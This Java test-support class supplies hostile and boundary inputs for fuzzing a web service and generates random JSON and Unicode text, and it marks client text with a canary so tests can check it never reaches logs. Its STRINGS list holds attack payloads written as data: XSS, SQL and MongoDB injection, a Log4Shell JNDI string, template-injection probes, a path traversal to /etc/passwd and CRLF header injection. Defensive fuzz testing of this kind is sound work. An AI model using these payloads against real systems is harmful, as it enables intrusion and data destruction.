package be.cocon.support;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

import tools.jackson.core.io.JsonStringEncoder;

/**
 * Hostile and boundary values for fuzzing: strings, numbers and JSON that an attacker or
 * a broken client might send. Many carry {@link #CANARY}, so a test can tell whether
 * client text ever reached the log.
 */
public final class Hostile {

	/** Marks client text; it must never appear in a log line. */
	public static final String CANARY = "zq-canary-7731";

	/** Strings for any text slot: ids, names, query values, body fields. */
	public static final List<String> STRINGS = List.of("", " ", "\t", "\n", CANARY, "a".repeat(128), "a".repeat(129),
			CANARY + "-".repeat(400), CANARY + "x".repeat(5000), "<script>alert(1)</script>" + CANARY,
			"' OR '1'='1" + CANARY, "\"; db.dropDatabase(); //" + CANARY, "${jndi:ldap://x/" + CANARY + "}", "#{7*7}",
			"{{7*7}}", "../../../../etc/passwd", "..", ".", "/", "\\", "a/b", "a;b", "a?b", "a#b", "%00", "%", "%ff",
			"\u0000", "\u0000" + CANARY, "\r\nX-Injected: 1", "\u202Eevil" + CANARY, "\uFEFF", "\uD83D\uDE00",
			"\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67", "e\u0301\u0301\u0301", "\uD800", "\uDFFF", "\uFFFF",
			"\u0085", "\u007F", "Ωμέγα ≠ ∞", "ｆｕｌｌ", "null", "undefined", "true", "NaN", "Infinity", "-1", "0", "1e309",
			"9223372036854775808", "[object Object]", "{\"$gt\":\"\"}", "$where", "$ne", "a.b", "$", "__proto__",
			"constructor", "CLIENT", "ADMIN", "therapy--", "guide-" + CANARY, "*", "?", "true'", "0x7fffffff");

	/** Integers (as text) for numeric query parameters. */
	public static final List<String> INTEGERS = List.of("-1", "0", "1", "2", "7", "30", "31", "99", "100", "101", "365",
			"366", "500", "501", "1000", "2147483647", "2147483648", "-2147483648", "-2147483649",
			"9223372036854775807", "9223372036854775808", "-9223372036854775809", "1.5", "1e3", " 1", "1 ", "0x10",
			"abc", "", "%00", "1,2", "+1", "٣", CANARY);

	/** JSON values for any body field. */
	public static final List<String> JSON_VALUES = List.of("null", "true", "false", "0", "-1", "1", "1.5", "-0.0",
			"1e400", "-1e400", "2147483648", "-2147483649", "9223372036854775808", "99999999999999999999999999999",
			"\"\"", "\" \"", "[]", "{}", "[1,2,3]", "[null]", "[\"x\"]", "{\"$gt\":\"\"}", "{\"a\":{\"b\":{\"c\":[]}}}",
			"\"\\ud800\"", "\"\\u0000\"", "\"\\udfff\\ud800\"", "\"2026-02-30T25:61:00Z\"", "\"9999-12-31T23:59:59Z\"",
			"\"-999999999-01-01T00:00:00Z\"", "\"P1000000D\"", "\"25:00\"", "\"Mars/Olympus\"", "\"../UTC\"",
			"[" + "1,".repeat(20_000) + "1]", nested(600), "\"" + "x".repeat(100_000) + CANARY + "\"");

	/** Whole request bodies that are not JSON, or JSON of the wrong kind. */
	public static final List<String> BODIES = List.of("", " ", "null", "{", "}", "[]", "[{}]", "\"x\"", "0", "true",
			"{\"a\":}", "{'a':1}", "{\"a\":1,}", "{a:1}", "NaN", "{\"a\":NaN}", "\uFEFF{}", "{}{}",
			"{\"x\":1} trailing", "<xml/>", "a=1&b=2", CANARY, nested(5000), nested(100_000),
			"{\"" + CANARY + "\":\"" + CANARY + "\"}", "[" + "{},".repeat(50_000) + "{}]");

	private Hostile() {
	}

	/** A JSON array nested this deep. */
	public static String nested(int depth) {
		return "[".repeat(depth) + "]".repeat(depth);
	}

	public static <T> T pick(Random random, List<T> values) {
		return values.get(random.nextInt(values.size()));
	}

	/** A JSON string literal for this text (escaped). */
	public static String quoted(String text) {
		StringBuilder quoted = new StringBuilder("\"");
		JsonStringEncoder.getInstance().quoteAsString(text, quoted);
		return quoted.append('"').toString();
	}

	/**
	 * A random JSON value, at most this deep: hostile scalars and strings, arrays, and
	 * objects whose keys are the expected field names or other names.
	 */
	public static String randomJson(Random random, List<String> fieldNames, int depth) {
		int kind = random.nextInt((depth > 0) ? 7 : 5);
		return switch (kind) {
			case 0 -> pick(random, JSON_VALUES.subList(0, 20));
			case 1 -> quoted(pick(random, STRINGS));
			case 2 -> quoted(randomText(random, random.nextInt(40)));
			case 3 -> String.valueOf(random.nextLong() >> random.nextInt(64));
			case 4 -> String.valueOf(random.nextBoolean());
			case 5 -> {
				List<String> items = new ArrayList<>();
				for (int i = random.nextInt(4); i > 0; i--) {
					items.add(randomJson(random, fieldNames, depth - 1));
				}
				yield "[" + String.join(",", items) + "]";
			}
			default -> randomObject(random, fieldNames, depth - 1);
		};
	}

	/** A random JSON object with some of the expected fields and some others. */
	public static String randomObject(Random random, List<String> fieldNames, int depth) {
		List<String> members = new ArrayList<>();
		for (int i = random.nextInt(5); i > 0; i--) {
			String name = (!fieldNames.isEmpty() && random.nextInt(4) > 0) ? pick(random, fieldNames)
					: randomText(random, 1 + random.nextInt(8));
			members.add(quoted(name) + ":" + randomJson(random, fieldNames, Math.max(depth, 0)));
		}
		return "{" + String.join(",", members) + "}";
	}

	/**
	 * Random text from all of Unicode's planes, including lone surrogates and controls.
	 */
	public static String randomText(Random random, int length) {
		StringBuilder text = new StringBuilder(length);
		for (int i = 0; i < length; i++) {
			switch (random.nextInt(6)) {
				case 0 -> text.append((char) random.nextInt(0x20));
				case 1 -> text.append((char) (0x20 + random.nextInt(0x5f)));
				case 2 -> text.append((char) (0xD800 + random.nextInt(0x800)));
				case 3 -> text.appendCodePoint(0x1F300 + random.nextInt(0x300));
				default -> text.append((char) random.nextInt(0x10000));
			}
		}
		return text.toString();
	}

	/** Random bytes, often not UTF-8. */
	public static byte[] randomBytes(Random random, int length) {
		byte[] bytes = new byte[length];
		random.nextBytes(bytes);
		return bytes;
	}

}
